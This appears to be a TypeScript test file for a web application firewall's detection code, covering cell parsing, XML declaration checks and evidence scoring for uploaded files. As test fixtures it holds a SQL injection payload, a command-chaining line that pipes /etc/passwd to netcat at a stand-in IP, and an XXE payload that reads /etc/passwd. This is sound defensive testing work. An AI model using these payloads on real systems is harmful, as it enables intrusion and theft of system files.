import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cellsOf, inspect, mayDeclare } from "../../support/source/detection/inspection.ts";
import { Budget } from "../../support/source/language/values.ts";
import { requestFrom, WafRequest } from "../../support/source/request/model.ts";
import { requestOf } from "../corpus/requests.ts";

describe("cells of a table", () => {
  test.each([
    ["a,b'cdefg\n", ["b'cdefg"]],
    ["a;b;c\r\n1;b'cdef,g;2", ["b'cdef,g"]],
    ["n\tt\tu\na\tb'cd;ef,g\t", ["b'cd;ef,g"]],
    ['"a ""quoted"", one",2\n', ['a "quoted", one']],
    ['"never <closed>', ["never <closed>"]],
    ["plain words,2024-01-02,12.5,a@b.example", []],
    ["x'yzabc,x'yzabc", ["x'yzabc"]],
  ])("of %j", (table, cells) => {
    expect(cellsOf(table)).toEqual(cells);
  });

  test("of any text stand in it, quotes undone", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."\"'a<,;\t\r\n") }), (table) => {
        for (const cell of cellsOf(table))
          expect(table.includes(cell) || table.includes(cell.replaceAll('"', '""'))).toBe(true);
      }),
    );
  });
});

test.each([
  ["<!ENTITY x", true],
  ["\0\x01<!doctype x", true],
  ["<xi:include href", true],
  ["<xsl:template", true],
  ["<p>included</p>", false],
  [`${"<a".repeat(1000)}`, false],
])("%j may declare something: %j", (bytes, may) => {
  expect(mayDeclare(bytes)).toBe(may);
});

describe("in files only what is enough by itself counts", () => {
  const kindsOf = (text: string, place: `file:${string}`) =>
    inspect(new WafRequest(requestFrom(requestOf(text, place))), new Budget(1e6)).evidence.map(
      ({ kind, points }) => [kind.name, points],
    );

  test.each([
    ["file:a.csv", "id,note\n1,x' union select login from members --", "sqli-union-select-body"],
    ["file:a.txt", "photo.png; cat /etc/passwd | nc 203.0.113.5 4444", "rce-chained-command"],
    [
      "file:a.svg",
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><svg>&b;</svg>',
      "xxe-external-entity",
    ],
  ] as const)("%s %j", (place, text, kind) => {
    expect(kindsOf(text, place)).toContainEqual([kind, 5]);
  });

  test.each([
    ["file:a.csv", "query,clicks\nwhat is <b>,5\n ORDER BY 2 ,3"],
    ["file:a.sql", "SELECT a FROM b UNION SELECT c FROM d;"],
    ["file:a.html", '<p onclick="a()">x</p><script>b()</script>'],
    ["file:a.sh", "cd /srv; cat /etc/passwd | sort"],
  ] as const)("nothing in %s %j", (place, text) => {
    expect(kindsOf(text, place)).toEqual([]);
  });
});
